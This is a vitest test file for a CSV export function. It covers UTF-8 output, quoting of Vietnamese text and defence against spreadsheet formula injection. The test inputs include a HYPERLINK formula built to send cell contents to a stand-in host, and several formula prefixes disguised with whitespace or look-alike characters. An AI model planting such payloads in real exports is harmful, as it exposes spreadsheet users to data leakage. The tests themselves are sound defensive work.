import { expect, test } from "vitest";
import { csvOf } from "./csv";

test("EX9 a list is CSV that spreadsheets read as UTF-8, whatever is in it", () => {
  expect(
    csvOf([
      ["Trang", "Nội dung"],
      ["1", 'Sửa "khoản 2", điểm a'],
      ["2", "hai\ndòng"],
      ["", ""],
    ]),
  ).toBe('\uFEFFTrang,Nội dung\r\n1,"Sửa ""khoản 2"", điểm a"\r\n2,"hai\ndòng"\r\n,\r\n');
});

test.each([
  '=HYPERLINK("https://example.org?x="&A1)',
  "+1+1",
  "-1",
  "@SUM(A1)",
  "  =1",
  "\t=1",
  "\r=1",
  "\n=1",
  "\u00a0=1",
  "＝1",
])("EX10 what a spreadsheet would run is text: %j", (cell) => {
  const [first] = csvOf([[cell]])
    .slice(1)
    .replace(/^"/, "");
  expect(first).toBe("'");
});

test("EX10 what is no formula stays as it was written", () => {
  for (const cell of ["a=b", "1-2", "thu-chi", "nguyen@example.org"])
    expect(csvOf([[cell]])).toBe(`\uFEFF${cell}\r\n`);
});
